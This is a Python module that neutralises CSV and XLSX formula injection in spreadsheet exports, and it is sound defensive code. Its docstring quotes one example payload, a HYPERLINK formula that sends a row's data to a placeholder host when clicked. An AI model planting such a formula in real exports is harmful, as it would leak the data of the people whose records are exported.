"""Spreadsheet exports that neither run what a record contains nor fail because of it.

A spreadsheet program treats a cell starting with `=`, `+`, `-` or `@` (or tab, CR before them)
as a formula: `=HYPERLINK("http://x"&B2,"x")` in an address would send the row's data away when
clicked (OWASP "CSV injection"). CSV cells with such text get a leading `'`, which spreadsheet
programs show as text; XLSX cells hold text as string cells, never formulas. Only text is
touched: numbers (negative ones too), dates and booleans stay what they are.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# What an XLSX (XML 1.0) cell cannot hold: C0 controls other than tab, LF and CR. openpyxl raises
# IllegalCharacterError on them; older records may still contain them.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def csv_text(value: str) -> str:
    """Text as a CSV cell: a leading `'` when a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def csv_cell(value: Any) -> Any:
    """A value for `csv.writer`: None → empty, bool → true/false, dates ISO, text neutralised,
    numbers unchanged."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, date):  # datetime too
        return value.isoformat()
    if isinstance(value, int | float | Decimal):
        return value
    return csv_text(str(value))


def csv_line(values: Iterable[Any]) -> str:
    """One CSV record (CRLF-terminated, as RFC 4180 and Excel expect), every cell neutralised."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([csv_cell(v) for v in values])
    return buffer.getvalue()


def from_csv_text(value: str) -> str:
    """The inverse of `csv_text` for an importer, so an exported file can be imported back."""
    if value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


def xlsx_text(value: str) -> str:
    """Text an XLSX cell can hold: characters XML cannot carry become U+FFFD."""
    return _XLSX_ILLEGAL.sub("\ufffd", value)


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """Cells for `sheet.append` on a write-only openpyxl worksheet. Text becomes a string cell
    (openpyxl would otherwise store text starting with `=` as a formula); datetimes lose their
    offset (Excel has none: pass them in UTC); numbers, dates and booleans stay typed."""
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if isinstance(value, datetime):
            row.append(value.replace(tzinfo=None))
        elif value is None or isinstance(value, bool | int | float | Decimal | date):
            row.append(value)
        else:
            cell = WriteOnlyCell(sheet, value=xlsx_text(str(value)))
            cell.data_type = "s"
            row.append(cell)
    return row
